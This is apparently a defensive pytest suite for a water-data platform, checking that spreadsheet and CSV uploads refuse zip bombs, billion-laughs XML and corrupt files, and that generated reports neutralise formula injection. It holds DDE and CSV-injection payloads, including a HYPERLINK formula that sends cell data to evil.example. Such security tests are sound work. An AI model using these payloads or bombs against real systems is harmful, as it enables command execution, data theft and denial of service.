"""Hostile spreadsheets and what the IOC writes back (issue 18, #4, #6, #7 and #12).

A malformed or hostile upload gets a clear, short 422 (never a 500, never an echo of the
input); the workbooks and CSV files the IOC produces keep user text as text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from taydo.ingest.files.parse import MAX_CELL_CHARS, read_table
from taydo.ingest.files.service import FOUND_CHARS
from tests.ingest.files.hostile import (
    SHEET,
    billion_laughs,
    corrupt_deflate,
    long_cell,
    rebuild_member,
    truncated_sheet,
    workbook,
    zip_bomb,
)
from tests.ingest.files.test_upload import CSV, MAPPING, _dataset, _stored, _upload

HEADER = ["Thời gian", "Trạm", "Mực nước (m)", "Nhiệt độ (°C)"]
GOOD = workbook([HEADER, ["01/02/2026 07:00", "NK-01", 2.5, None]])
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return zip_bomb(GOOD, megabytes=400)


def hostile_workbooks(bomb: bytes) -> dict[str, bytes]:
    return {
        "truncated sheet XML": truncated_sheet(GOOD),
        "billion laughs": rebuild_member(GOOD, SHEET, billion_laughs()),
        "quadratic blowup": rebuild_member(
            GOOD, SHEET, billion_laughs(1).replace(b'"haha', b'"' + b"h" * 100_000)
        ),
        "corrupt deflate stream": corrupt_deflate(GOOD),
        "zip bomb (412 KB → 400 MB)": bomb,
        "zip bomb (50 MB, by ratio)": zip_bomb(GOOD, megabytes=50),
        "cell over Excel's limit": rebuild_member(GOOD, SHEET, long_cell(MAX_CELL_CHARS + 1)),
    }


def test_the_zip_bomb_is_the_issues_case(bomb: bytes) -> None:
    assert len(bomb) < 500_000
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.getinfo(SHEET).file_size > 400 * 1024 * 1024


def test_hostile_workbooks_are_refused_with_a_short_reason(bomb: bytes) -> None:
    for name, data in hostile_workbooks(bomb).items():
        with pytest.raises(ValueError) as refused:
            read_table("so-lieu.xlsx", data)
        message = str(refused.value)
        assert len(message) < 400, (name, message[:400])
        assert "xlsx" in message or "Excel" in message, (name, message)
        if "laughs" in name or "blowup" in name:
            assert "DTD" in message, message  # refused by defusedxml, not by running out
        if "zip bomb" in name:
            assert "inflates" in message, message  # refused by the zip directory


def test_uploads_of_hostile_workbooks_answer_a_short_422_and_store_nothing(
    client, database, headers_for, bomb: bytes
) -> None:  # type: ignore[no-untyped-def]
    _dataset(database)
    operator = headers_for("operator")
    client.put("/api/v1/datasets/muc-nuoc-tay/column-mapping", headers=operator, json=MAPPING)
    for name, data in hostile_workbooks(bomb).items():
        answer = _upload(client, operator, data, name="so-lieu.xlsx")
        assert answer.status_code == 422, (name, answer.status_code, answer.text[:300])
        assert len(answer.content) < 2_000, (name, len(answer.content))
        assert answer.json()["error"]
    assert _stored(database) == []
    # The same file, intact, is stored.
    good = _upload(client, operator, GOOD, name="so-lieu.xlsx")
    assert good.status_code == 201 and good.json()["values_stored"] == 1


def test_taydo_import_file_refuses_hostile_workbooks_in_one_line(
    database, tmp_path: Path, monkeypatch, bomb: bytes
) -> None:  # type: ignore[no-untyped-def]
    from taydo.cli import app as cli
    from taydo.ingest.files import service

    _dataset(database)
    service.set_mapping(database, None, "muc-nuoc-tay", MAPPING)
    monkeypatch.setenv("TAYDO_DATABASE_URL", database.url)
    for name, data in hostile_workbooks(bomb).items():
        path = tmp_path / "so-lieu.xlsx"
        path.write_bytes(data)
        result = CliRunner().invoke(cli, ["import", "file", "muc-nuoc-tay", str(path)])
        assert result.exit_code == 1, (name, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit), name
        assert "Traceback" not in result.output and len(result.output) < 1_000, name
    assert _stored(database) == []


def test_missing_columns_answer_shows_the_headers_bounded(client, database, headers_for) -> None:  # type: ignore[no-untyped-def]
    _dataset(database)
    operator = headers_for("operator")
    client.put("/api/v1/datasets/muc-nuoc-tay/column-mapping", headers=operator, json=MAPPING)
    wide = ",".join(f"{i}" + "x" * 30_000 for i in range(60)) + "\n1,2\n"
    answer = _upload(client, operator, wide.encode())
    assert answer.status_code == 422
    found = answer.json()["details"]["found"]
    assert len(found) == 50 and all(len(header) <= FOUND_CHARS for header in found)
    assert len(answer.content) < 10_000


# -- CSV encodings (#12) ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoded", "label"),
    [
        (b"\xff\xfe" + CSV.encode("utf-16-le"), "utf-16 LE (BOM)"),
        (b"\xfe\xff" + CSV.encode("utf-16-be"), "utf-16 BE (BOM)"),
        (CSV.encode("utf-16"), "utf-16 LE (BOM)"),  # Python writes the LE mark itself
        (b"\xff\xfe\x00\x00" + CSV.encode("utf-32-le"), "utf-32 LE (BOM)"),
        (b"\xef\xbb\xbf" + CSV.encode(), "utf-8 (BOM)"),
        (CSV.encode(), "utf-8"),
    ],
)
def test_a_csv_with_a_unicode_bom_reads_the_same(encoded: bytes, label: str) -> None:
    table = read_table("so-lieu.csv", encoded)
    assert table.encoding == label
    assert table.headers == HEADER
    assert table.rows[1].cells["Trạm"] == "Trạm Ninh Kiều"


def test_a_csv_whose_encoding_cannot_be_decided_says_how_to_save_it() -> None:
    for data in (CSV.encode("utf-16-le"), CSV.encode("utf-16-be"), b"a;b\n1\x00;2\n"):
        with pytest.raises(ValueError, match="encoding cannot be decided") as refused:
            read_table("so-lieu.csv", data)
        assert "CSV UTF-8" in str(refused.value)
    with pytest.raises(ValueError, match="utf-16 LE"):
        read_table("so-lieu.csv", b"\xff\xfe" + CSV.encode("utf-16-le")[:-1])  # odd length
    # Windows-1258 is still read, and still labelled a guess.
    assert "guessed" in read_table("a.csv", "Thơ;x\nCà Mau;1\n".encode("cp1258")).encoding


def test_the_delimiter_comes_from_the_header_outside_quotes() -> None:
    quoted = '"Mực nước (m), trung bình";Trạm;"a,b,c"\n"1,5";NK-01;x\n'
    table = read_table("a.csv", quoted.encode())
    assert table.headers == ["Mực nước (m), trung bình", "Trạm", "a,b,c"]
    assert table.rows[0].cells["Trạm"] == "NK-01"
    assert read_table("a.csv", b"a\tb\n1\t2\n").headers == ["a", "b"]
    assert read_table("a.csv", b"a,b\n1,2\n").headers == ["a", "b"]
    assert read_table("a.csv", b"one column\n1\n").headers == ["one column"]


def test_a_utf16_upload_is_stored(client, database, headers_for) -> None:  # type: ignore[no-untyped-def]
    _dataset(database)
    operator = headers_for("operator")
    client.put("/api/v1/datasets/muc-nuoc-tay/column-mapping", headers=operator, json=MAPPING)
    answer = _upload(client, operator, CSV.encode("utf-16"))
    assert answer.status_code == 201, answer.text
    assert answer.json()["encoding"] == "utf-16 LE (BOM)" and answer.json()["values_stored"] == 4
    bare = _upload(client, operator, CSV.encode("utf-16-le"))
    assert bare.status_code == 422 and "CSV UTF-8" in bare.json()["error"]


# -- formula injection (#7) ---------------------------------------------------------------


def _formulas(workbook_bytes: bytes) -> list[str]:
    """Every formula element in every sheet of a workbook."""
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_the_row_report_writes_user_text_as_text(client, database, headers_for) -> None:  # type: ignore[no-untyped-def]
    _dataset(database)
    operator = headers_for("operator")
    client.put("/api/v1/datasets/muc-nuoc-tay/column-mapping", headers=operator, json=MAPPING)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(HEADER)
    for number, text in enumerate(INJECTIONS):
        writer.writerow([f"01/02/2026 0{number}:00", text, text, ""])  # unknown station
        writer.writerow([f"01/02/2026 0{number}:30", "NK-01", text, ""])  # not a number
    writer.writerow(["01/02/2026 09:00", "NK-01", "1,5", "=1+1"])
    name = "=cmd|' /C calc'!A0.csv"
    answer = _upload(client, operator, out.getvalue().encode(), name=name)
    assert answer.status_code == 201, answer.text
    assert answer.json()["values_stored"] == 1  # the good height; "=1+1" is no number
    report = client.get(answer.json()["report"], headers=operator)
    assert report.status_code == 200
    assert _formulas(report.content) == []
    book = openpyxl.load_workbook(io.BytesIO(report.content))
    assert book["Tóm tắt"]["B2"].value == name and book["Tóm tắt"]["B2"].data_type == "s"
    values = {row[2] for row in book["Lỗi theo dòng"].iter_rows(min_row=2, values_only=True)}
    assert {text for text in INJECTIONS if not text[0].isspace()} <= values


def test_the_template_writes_mapped_headers_and_stations_as_text(
    client, database, headers_for
) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import update

    from taydo.catalog.models import Entity

    _dataset(database)
    with database.session() as session:
        session.execute(
            update(Entity)
            .where(Entity.entity_id == "urn:ngsi-ld:WaterObserved:NK-01")
            .values(name="=cmd|' /C calc'!A0")
        )
    operator = headers_for("operator")
    hostile = {**MAPPING, "metrics": {'=HYPERLINK("http://x")': "height"}}
    assert (
        client.put(
            "/api/v1/datasets/muc-nuoc-tay/column-mapping", headers=operator, json=hostile
        ).status_code
        == 200
    )
    template = client.get("/api/v1/datasets/muc-nuoc-tay/upload-template.xlsx", headers=operator)
    assert template.status_code == 200
    assert _formulas(template.content) == []
    book = openpyxl.load_workbook(io.BytesIO(template.content))
    assert book.worksheets[0]["C1"].value == '=HYPERLINK("http://x")'
    assert book["Trạm"]["A2"].value == "=cmd|' /C calc'!A0"


def test_the_rejected_rows_csv_of_taydo_import_writes_user_text_as_text(
    database, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    from taydo.ingest.cli import import_observations_file

    path = tmp_path / "quan-trac.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["entity_id", "metric", "ts", "value"])
        for text in INJECTIONS:
            writer.writerow([text, "height", "-1", text])
        writer.writerow(["urn:x", "height", "1792000000000", "-1.5"])
    report = import_observations_file(database, path)
    assert report.rejected == len(INJECTIONS) + 1 and report.report_path is not None
    with report.report_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell in ("-1", "-1.5"), row  # plain numbers
    assert rows[1][2] == "'" + INJECTIONS[0]


def test_the_console_upload_page_says_why_a_hostile_workbook_is_refused(
    client, database, bomb: bytes
) -> None:  # type: ignore[no-untyped-def]
    from tests.ingest.files.test_upload_page import _login

    _dataset(database)
    token = _login(client, database, "agency_officer", ["SNNMT"])
    mapping = {
        "csrf_token": token,
        "dataset": "muc-nuoc-tay",
        "ts": "Thời gian",
        "entity": "Trạm",
        "metrics": "Mực nước (m) = height\nNhiệt độ (°C) = temperature\n",
    }
    assert client.post("/data/upload/mapping", data=mapping).status_code == 200
    for name, data in hostile_workbooks(bomb).items():
        answer = client.post(
            "/data/upload",
            data={"csrf_token": token, "dataset": "muc-nuoc-tay"},
            files={"file": ("so-lieu.xlsx", data)},
        )
        assert answer.status_code == 422, (name, answer.status_code)
        assert 'role="alert"' in answer.text and "xlsx" in answer.text, name
    assert _stored(database) == []
